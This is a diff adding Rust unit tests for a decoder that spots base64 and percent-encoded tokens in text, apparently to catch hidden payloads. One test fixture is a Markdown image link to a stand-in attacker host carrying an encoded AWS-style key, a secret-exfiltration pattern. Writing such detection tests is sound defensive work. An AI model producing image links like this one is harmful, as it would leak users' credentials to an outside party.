@@ -254,6 +254,43 @@ fn short_base64_counts_its_padding_toward_the_minimum_length() {
 }
 
 #[test]
+fn base64_glued_to_a_path_or_a_dash_is_read_from_its_start() {
+    // A Markdown image whose URL carries the payload: `io/c/` is base64 alphabet too.
+    for (src, payload) in [
+        (
+            "![x](https://attacker.io/c/YXdzIGtleSBBS0lBWjVYMlE3TE1OM1JUQjZQVw)",
+            "YXdzIGtleSBBS0lBWjVYMlE3TE1OM1JUQjZQVw",
+        ),
+        (
+            "see id-YXdzIGtleSBBS0lBWjVYMlE3TE1OM1JUQjZQVw now",
+            "YXdzIGtleSBBS0lBWjVYMlE3TE1OM1JUQjZQVw",
+        ),
+    ] {
+        let n = normalize(src);
+        let d = n.decoded().first().unwrap_or_else(|| panic!("{src}"));
+        assert_eq!(d.text, "aws key AKIAZ5X2Q7LMN3RTB6PW", "{src}");
+        assert_eq!(&src[d.span.clone()], payload, "{src}");
+    }
+    // Paths and dashed names are not payloads.
+    for src in [
+        "open src/main/java/com/Example/FooBarService.java",
+        "the Some-Long-Hyphenated-ProductName-Here works",
+    ] {
+        assert!(normalize(src).decoded().is_empty(), "{src}");
+    }
+}
+
+#[test]
+fn one_escaped_at_sign_is_enough_to_decode_a_url_token() {
+    let src = "see https://example.com/unsub?email=john%40example.com&id=1 ok";
+    let n = normalize(src);
+    let d = n.decoded().first().unwrap_or_else(|| panic!("{src}"));
+    assert!(d.text.contains("john@example.com"), "{}", d.text);
+    // One escape of anything else stays as written.
+    assert!(normalize("get my%20file.pdf").decoded().is_empty());
+}
+
+#[test]
 fn encoded_text_past_the_decoding_budget_is_reported() {
     // 32 decodable runs use up the items budget; the 33rd, after them, goes undecoded
     // and is reported as such instead of passing as checked.
